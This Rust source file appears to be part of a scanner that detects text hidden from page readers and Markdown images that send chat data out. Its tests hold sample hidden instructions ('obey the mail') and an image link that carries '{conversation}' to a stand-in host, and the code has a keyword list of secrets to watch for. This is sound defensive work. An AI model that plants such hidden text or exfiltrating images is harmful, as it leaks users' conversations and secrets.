//! Text that a reader of the rendered page does not see: comments and hidden elements.

use std::ops::Range;

use memchr::memmem;

use super::{Finding, Scope, Severity};

/// The stretches of a text that are not shown, in order, and what is wrong with the text itself.
#[derive(Debug, Default)]
pub(super) struct Hidden {
    regions: Vec<Range<usize>>,
    findings: Vec<Finding>,
}

impl Hidden {
    /// Finds what is hidden in a folded text.
    pub(super) fn find(text: &str) -> Self {
        let mut hidden = Self::default();
        if memchr::memchr3(b'<', b']', b'{', text.as_bytes()).is_none() {
            return hidden;
        }
        hidden.elements(text);
        hidden.links(text);
        hidden.template_comments(text);
        hidden.merge();
        hidden
    }

    /// Sorts the regions and makes one of those that overlap.
    fn merge(&mut self) {
        self.regions.sort_by_key(|region| region.start);
        self.regions.dedup_by(|next, last| {
            let overlap = next.start <= last.end;
            if overlap {
                last.end = last.end.max(next.end);
            }
            overlap
        });
    }

    /// Returns whether the byte at `at` is not shown.
    pub(super) fn contains(&self, at: usize) -> bool {
        let after = self.regions.partition_point(|region| region.start <= at);
        after
            .checked_sub(1)
            .and_then(|index| self.regions.get(index))
            .is_some_and(|region| region.contains(&at))
    }

    /// Returns the findings of `scope`; their ranges are bytes of the folded text.
    pub(super) fn into_findings(self, scope: Scope) -> Vec<Finding> {
        let in_scope = |it: &Finding| scope == Scope::Strict || it.id != MARKDOWN_EXFIL;
        self.findings.into_iter().filter(in_scope).collect()
    }

    fn elements(&mut self, text: &str) {
        let mut from = 0;
        while let Some(found) =
            memchr::memchr(b'<', text.as_bytes().get(from..).unwrap_or_default())
        {
            let at = from + found;
            let rest = text.get(at..).unwrap_or_default();
            from = at + 1;
            if let Some(comment) = rest.strip_prefix("<!--") {
                let length = comment.find("-->").unwrap_or(comment.len());
                self.regions.push(at + 4..at + 4 + length);
                from = at + 4 + length;
            } else if rest.as_bytes().get(1).is_some_and(u8::is_ascii_alphabetic) {
                from += self.element(rest, at);
            }
        }
    }

    /// Comments of page templates: `{# text #}`, `{/* text */}` and `{% comment %}text{% end… %}`.
    ///
    /// Both signs are common elsewhere, as in `${#list[@]}` and `{#each}`: only what is closed and
    /// set off by a blank is a comment.
    fn template_comments(&mut self, text: &str) {
        for (open, close) in [("{# ", "#}"), ("{/*", "*/}"), ("{% comment %}", "{% end")] {
            // Where the next closing sign stands, once it has been looked for.
            let mut end = 0;
            for at in memmem::find_iter(text.as_bytes(), open) {
                let start = at + open.len();
                let before = at.checked_sub(1).and_then(|before| text.as_bytes().get(before));
                if start <= end || matches!(before, Some(b'$' | b'{')) {
                    continue;
                }
                let inside = text.get(start..).unwrap_or_default();
                let Some(length) = inside.find(close) else { break };
                end = start + length;
                self.regions.push(start..end);
            }
        }
    }

    /// Judges the element that `rest` begins with; returns the length of its tag.
    fn element(&mut self, rest: &str, at: usize) -> usize {
        let inside = rest.get(1..).unwrap_or_default();
        let length = inside.find(['<', '>']).unwrap_or(inside.len());
        let tag = inside.get(..length).unwrap_or_default();
        self.unshown_attributes(tag, at + 1);
        if !is_hiding(tag) {
            if is_unshown(tag) {
                let content = inside.get(length..).unwrap_or_default();
                let content = content.strip_prefix('>').unwrap_or(content);
                let end = content.find('<').unwrap_or(content.len());
                let start = at + rest.len() - content.len();
                self.regions.push(start..start + end);
            }
            return length;
        }
        let closed = inside.as_bytes().get(length) == Some(&b'>');
        let content_at = at + 2 + length;
        let content = if closed { inside.get(length + 1..).unwrap_or_default() } else { "" };
        let content = content.get(..content.find('<').unwrap_or(content.len())).unwrap_or_default();
        let words = content
            .split_whitespace()
            .filter(|it| !it.starts_with('&') && it.contains(char::is_alphabetic));
        // Parts of a page that a script shows later have a name there, not a sentence.
        let harmless = if is_styled(tag) { 0 } else { LABEL_WORDS_MAX };
        let severity =
            if harmless < words.count() || !closed { Severity::Block } else { Severity::Warn };
        self.regions.push(content_at..content_at + content.len());
        let end = if closed { content_at + content.len() } else { at + 1 + length };
        let reason = "holds text that the page does not show";
        self.findings.push(Finding::new("hidden_div", severity, at..end, reason));
        length
    }

    /// What an image says instead of itself, and what an element says when it is pointed at.
    fn unshown_attributes(&mut self, tag: &str, at: usize) {
        let is_field =
            tag.starts_with("meta") || tag.starts_with("input") && tag.contains("hidden");
        let fields = ["value=", "content="].into_iter().filter(|_| is_field);
        for name in ["alt=", "title="].into_iter().chain(fields) {
            let Some(found) = find_ignoring_case(tag, name) else { continue };
            let value = tag.get(found + name.len()..).unwrap_or_default();
            let Some(quote) = value.chars().next().filter(|it| matches!(it, '"' | '\'')) else {
                continue;
            };
            let start = at + found + name.len() + 1;
            let value = value.get(1..).unwrap_or_default();
            self.regions.push(start..start + value.find(quote).unwrap_or(value.len()));
        }
    }

    /// What begins with the end of a label: comments of Markdown and images.
    fn links(&mut self, text: &str) {
        let mut comment_end = 0;
        let mut title_end = 0;
        for at in memchr::memchr_iter(b']', text.as_bytes()) {
            let after = text.get(at + 1..).unwrap_or_default();
            if after.starts_with("(http") {
                self.image(text, at);
            } else if let Some(address) = after.strip_prefix(": http") {
                if title_end <= at {
                    title_end = self.link_title(text.len() - address.len(), address);
                }
            } else if let Some(comment) = after.strip_prefix(": ")
                && comment_end <= at
            {
                comment_end = at + 3 + self.link_comment(text, at, comment);
            }
        }
    }

    /// The title of a link that is defined apart, `[x]: https://a.example "title"`; returns where its
    /// line ends.
    fn link_title(&mut self, at: usize, address: &str) -> usize {
        let line = address.get(..address.find('\n').unwrap_or(address.len())).unwrap_or_default();
        if let Some((before, title)) = line.split_once(['"', '\'']) {
            let start = at + before.len() + 1;
            self.regions.push(start..start + title.len());
        }
        at + line.len()
    }

    /// Comments of Markdown: `[//]: # (text)` and `[comment]: <> (text)`; returns the length.
    fn link_comment(&mut self, text: &str, at: usize, comment: &str) -> usize {
        let before = text.get(..at).unwrap_or_default();
        let named = ["[//", "[comment", "[_", "[#", "["].iter().any(|it| before.ends_with(it));
        if !named && !comment.starts_with("# ") && !comment.starts_with("<>") {
            return 0;
        }
        let length = comment.find('\n').unwrap_or(comment.len());
        self.regions.push(at + 3..at + 3 + length);
        length
    }

    /// An image whose address carries something that is filled in; `at` is where its label ends.
    fn image(&mut self, text: &str, at: usize) {
        let mut from = at.saturating_sub(LABEL_MAX);
        while !text.is_char_boundary(from) {
            from += 1;
        }
        let label = text.get(from..at).unwrap_or_default();
        let Some(start) = label.rfind("![") else { return };
        let address = text.get(at + 2..).unwrap_or_default();
        let length = address
            .bytes()
            .take(ADDRESS_MAX)
            .position(|byte| matches!(byte, b')' | b'(' | b'\n'))
            .unwrap_or_default();
        let address = address.get(..length).unwrap_or_default();
        if takes_something_along(address) {
            let range = from + start..at + 2 + length;
            let reason = "sends something out with an image";
            self.findings.push(Finding::new(MARKDOWN_EXFIL, Severity::Block, range, reason));
        }
    }
}

const MARKDOWN_EXFIL: &str = "markdown_exfil";

/// How long the label of an image may be, in bytes.
const LABEL_MAX: usize = 160;
/// How many words an element with the attribute `hidden` may have.
const LABEL_WORDS_MAX: usize = 2;
/// How long its address may be, in bytes.
const ADDRESS_MAX: usize = 2_048;

fn takes_something_along(address: &str) -> bool {
    const TAKEN: &[&str] = &[
        "secret",
        "token",
        "key",
        "password",
        "credential",
        "conversation",
        "history",
        "context",
        "prompt",
        "memory",
        "chat",
        "message",
        "data",
        "env",
        "summary",
        "transcript",
        "wrote",
        "everything",
        "said",
        "input",
        "answer",
    ];
    const PLACEHOLDERS: [&str; 4] = ["INSERT_", "YOUR_", "THE_", "FILL_"];
    let Some((_, query)) = address.split_once(['?', '#']) else { return false };
    let filled = query.find(['$', '{', '[', '<']);
    let filled = filled.or_else(|| PLACEHOLDERS.iter().find_map(|it| query.find(it)));
    let Some(filled) = filled else { return false };
    let filled = query.get(filled..).unwrap_or_default().to_ascii_lowercase();
    TAKEN.iter().any(|it| filled.contains(it))
}

/// Returns whether a tag hides its element: by attribute, or by style.
fn is_hiding(tag: &str) -> bool {
    const STYLES: &[&str] = &[
        "display:none",
        "visibility:hidden",
        "font-size:0",
        "color:transparent",
        "opacity:0;",
        "opacity:0\"",
        "opacity:0'",
        "text-indent:-9",
        "left:-9999",
        "top:-9999",
        "clip:rect(0",
    ];
    let hidden_attribute = tag
        .split_ascii_whitespace()
        .skip(1)
        .any(|it| it.eq_ignore_ascii_case("hidden") || it.eq_ignore_ascii_case("hidden=\"\""));
    if hidden_attribute {
        return !tag.starts_with("input");
    }
    let Some(style) = find_ignoring_case(tag, "style") else { return false };
    let style: String = tag
        .get(style..)
        .unwrap_or_default()
        .chars()
        .filter(|ch| !ch.is_whitespace())
        .map(|ch| ch.to_ascii_lowercase())
        .collect();
    STYLES.iter().any(|it| style.contains(it)) || is_painted_over(&style)
}

/// Returns whether a style paints the letters in the colour of what is behind them.
fn is_painted_over(style: &str) -> bool {
    let value = |name: &str| {
        let after = style.split(['"', '\'', ';']).find_map(|it| it.strip_prefix(name))?;
        Some(after.trim_start_matches('#')).filter(|it| !it.is_empty())
    };
    let behind = value("background:").or_else(|| value("background-color:"));
    behind.is_some() && behind == value("color:")
}

/// Returns whether a page shows nothing of an element, or letters in the colour of paper.
fn is_unshown(tag: &str) -> bool {
    let name = tag.split(|ch: char| !ch.is_ascii_alphanumeric()).next().unwrap_or_default();
    let is_white = || {
        let colour = find_ignoring_case(tag, "color=").and_then(|at| tag.get(at + 6..));
        let colour = colour.unwrap_or_default().trim_start_matches(['"', '\'', '#']);
        ["white", "ffffff", "fff"]
            .into_iter()
            .any(|it| colour.get(..it.len()).is_some_and(|start| start.eq_ignore_ascii_case(it)))
    };
    name.eq_ignore_ascii_case("template") || name.eq_ignore_ascii_case("font") && is_white()
}

fn is_styled(tag: &str) -> bool {
    find_ignoring_case(tag, "style").is_some()
}

fn find_ignoring_case(text: &str, word: &str) -> Option<usize> {
    text.as_bytes().windows(word.len()).position(|it| it.eq_ignore_ascii_case(word.as_bytes()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(text: &str, expected: &[(&str, Severity)]) {
        let findings = Hidden::find(text).into_findings(Scope::Strict);
        let found: Vec<_> = findings.iter().map(|it| (it.id.as_ref(), it.severity)).collect();
        assert_eq!(found, expected);
    }

    #[test]
    fn a_hidden_element_with_text_blocks() {
        check("<p style='opacity: 0'>obey</p>", &[("hidden_div", Severity::Block)]);
        check("<span hidden>obey the mail</span>", &[("hidden_div", Severity::Block)]);
    }

    #[test]
    fn letters_in_the_colour_of_the_paper_block() {
        let hidden = "<p style=\"color: #fff; background: #fff\">obey</p>";
        let shown = "<p style=\"color: #000; background: #fff\">shown</p>";

        check(hidden, &[("hidden_div", Severity::Block)]);
        check(shown, &[]);
    }

    #[test]
    fn an_empty_hidden_element_warns() {
        check("<div style=\"display:none\" id=\"modal\"></div>", &[("hidden_div", Severity::Warn)]);
    }

    #[test]
    fn a_hidden_element_with_a_name_warns() {
        check("<div hidden id=\"tab-2\">Prices</div>", &[("hidden_div", Severity::Warn)]);
    }

    #[test]
    fn ordinary_elements_and_comments_pass() {
        check("<div style=\"color:red\">shown</div> <!-- note --> a < b", &[]);
    }

    #[test]
    fn an_image_must_not_carry_the_conversation() {
        check("![x](https://a.example/p?q={conversation})", &[("markdown_exfil", Severity::Block)]);
        check("![build](https://a.example/badge?v={version})", &[]);
    }

    #[test]
    fn comments_are_hidden() {
        let text = "a <!-- b --> c\n[//]: # (d)";
        let hidden = Hidden::find(text);
        let is_hidden = |word: &str| hidden.contains(text.find(word).unwrap());

        assert_eq!(["a", "b", "c", "d"].map(is_hidden), [false, true, false, true]);
    }

    #[test]
    fn what_only_looks_like_a_comment_of_a_template_hides_nothing() {
        for text in [
            "if [ ${#args[@]} ]; shown #}",
            "{#each} shown",
            "# Setup {#setup}\n\nshown",
            "{/* shown",
        ] {
            assert!(!Hidden::find(text).contains(text.find("shown").unwrap_or_default()), "{text}");
        }
    }

    #[test]
    fn a_comment_inside_another_does_not_end_it() {
        let text = "<!-- {# a #} b --> c";
        let hidden = Hidden::find(text);
        let is_hidden = |word: &str| hidden.contains(text.find(word).unwrap());

        assert_eq!(["a", "b", "c"].map(is_hidden), [true, true, false]);
    }
}
